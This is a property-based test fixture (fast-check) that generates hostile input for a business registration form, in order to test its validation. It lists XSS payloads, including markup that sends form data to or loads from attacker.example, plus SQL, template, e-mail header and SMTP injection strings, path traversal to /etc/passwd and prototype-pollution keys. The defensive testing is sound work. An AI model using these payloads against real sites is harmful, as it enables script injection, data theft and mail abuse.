import fc from 'fast-check'
import {
  eachDocument,
  type RegistrationDraft,
  type TextName,
  textFields,
  textNames,
} from '../../../src/registration/rules/fields'
import { documentIds } from '../../../stories/support/validTexts'

/**
 * Typical attacks: markup, scripts, SQL, templates, e-mail headers, SMTP commands, and characters
 * that control terminals, headers or the text direction. Each script would call `alert`, so the
 * tests notice if a browser runs one.
 */
export const attacks = [
  '<script>alert(1)</script>',
  '</td></tr></table><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<style>@import "http://attacker.example/x.css"</style>',
  '<form action="http://attacker.example"><input name=x>',
  '<meta http-equiv="refresh" content="0;url=http://attacker.example">',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)" x="',
  '<!--',
  '-->',
  ']]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;',
  '＜script＞alert(1)＜/script＞',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '{{company_name}}',
  '{{{company_name}}}',
  '{{#each this}}{{this}}{{/each}}',
  '#{alert(1)}',
  '<%= 7*7 %>',
  "'; DROP TABLE agents; --",
  "' OR '1'='1",
  '=HYPERLINK("http://attacker.example")',
  '\r\nBcc: thief@example.com\r\n',
  '\nContent-Type: text/html\n\n<script>alert(1)</script>',
  '\rSubject: You have won',
  '\r\n.\r\nMAIL FROM:<thief@example.com>\r\nRCPT TO:<thief@example.com>\r\nDATA\r\n',
  '\r\n\r\n--boundary\r\nContent-Type: text/html\r\n\r\n',
  '%0d%0aBcc:%20thief@example.com',
  '=?utf-8?Q?=0D=0ABcc:_thief@example.com?=',
  'a@b.example, thief@example.com',
  '<thief@example.com>',
  '\nGST number: 99ZZZZZ9999Z9Z9',
  '\u0000',
  '\u001b[31m',
  '\u007f\u0085',
  '\u000b\u000c',
  '\u2028',
  '\u2029',
  '\u202e',
  '\u2066',
  '\u200b',
  '\ufeff',
  '\ud800',
  '\udc00',
  '\ufdfa',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A',
  '$&',
  '$1',
  '\\',
  '../../etc/passwd',
  'constructor',
  '__proto__',
] as const

/** Ordinary input, in several scripts. */
const ordinary = [
  'Sunrise Holidays Pvt Ltd',
  "O'Brien & Söhne",
  'आशा राव',
  '新加坡旅行社',
  'שלום נסיעות',
  'شركة السفر',
  'Ａｓｈａ',
  '👩‍👩‍👧 Tours',
  'ﬁne Travel',
  '12 MG Road',
  ' ',
] as const

const repeated = fc
  .tuple(
    fc.constantFrom('a', '<', '{', '"', '😀', '\u0301', '\ufdfa', '\ud800', '\u0000', '\r\n', ' '),
    fc.oneof(
      { weight: 15, arbitrary: fc.constantFrom(70, 300, 1100) },
      { weight: 1, arbitrary: fc.constant(20_000) },
    ),
  )
  .map(([unit, times]) => unit.repeat(times))

/** Built much faster than fast-check's `binary`, which lists all characters first. */
const anyCharacter = fc
  .integer({ min: 0, max: 0x10_ff_ff })
  .map((code) => String.fromCodePoint(code))

const fragment = fc.oneof(
  { weight: 12, arbitrary: fc.constantFrom(...attacks) },
  { weight: 8, arbitrary: fc.constantFrom(...ordinary) },
  { weight: 4, arbitrary: fc.string({ unit: anyCharacter, maxLength: 8 }) },
  { weight: 4, arbitrary: fc.string({ unit: 'grapheme', maxLength: 8 }) },
  { weight: 1, arbitrary: repeated },
)

/** Up to five fragments, hostile or harmless. */
export const hostileText: fc.Arbitrary<string> = fc
  .array(fragment, { maxLength: 5 })
  .map((pieces) => pieces.join(''))

/** Mostly valid for the field, so that much of it is accepted; otherwise altered or arbitrary. */
const mostly = (good: fc.Arbitrary<string>): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 7, arbitrary: good },
    { weight: 2, arbitrary: fc.tuple(good, fragment).map((pieces) => pieces.join('')) },
    { weight: 1, arbitrary: hostileText },
  )

/** For fields that accept almost any text: ordinary text, often followed by an attack. */
const text = fc.oneof(
  { weight: 1, arbitrary: fc.constantFrom(...ordinary) },
  { weight: 2, arbitrary: fc.tuple(fc.constantFrom(...ordinary), fragment).map((p) => p.join('')) },
  { weight: 1, arbitrary: hostileText },
)

const email = mostly(
  fc.oneof(
    fc.constantFrom('asha@example.com', ' asha@example.com ', 'ａｓｈａ@example.com'),
    fragment.map((piece) => `${piece.replace(/[\s@]/g, '')}x@example.com`),
    fragment.map((piece) => `asha@${piece.replace(/[\s@]/g, '')}.example`),
  ),
)

const phone = mostly(
  fc.oneof(
    fc.constantFrom('+91 98765 43210', '(080) 2222-3333', '＋９１ ９８７６５ ４３２１０'),
    fragment.map((piece) => `${piece}9876543210`),
  ),
)

const gstNumber = mostly(
  fc.constantFrom(
    '07ABCDE1234F1Z5',
    '07abcde1234f1z5',
    ' 07-ABCDE-1234-F1Z5 ',
    '07 ABCDE 1234 F1Z5\r\n',
    '０７ＡＢＣＤＥ１２３４Ｆ１Ｚ５',
    '27aapfu0939f1zv',
  ),
)

const byKind = { line: text, lines: text, email, phone, gstNumber }
const hostileTexts = Object.fromEntries(
  textNames.map((field) => [field, byKind[textFields[field].kind]]),
) as Record<TextName, fc.Arbitrary<string>>

const documents = eachDocument((field) => ({
  id: documentIds[field],
  url: `https://cdn.example.com/${documentIds[field]}/`,
  name: 'certificate.pdf',
  size: 182_000,
  mimeType: 'application/pdf',
}))

/** A form whose texts an attacker has filled in. */
export const hostileDraft: fc.Arbitrary<RegistrationDraft> = fc
  .record(hostileTexts)
  .map((texts) => ({ ...texts, ...documents }))
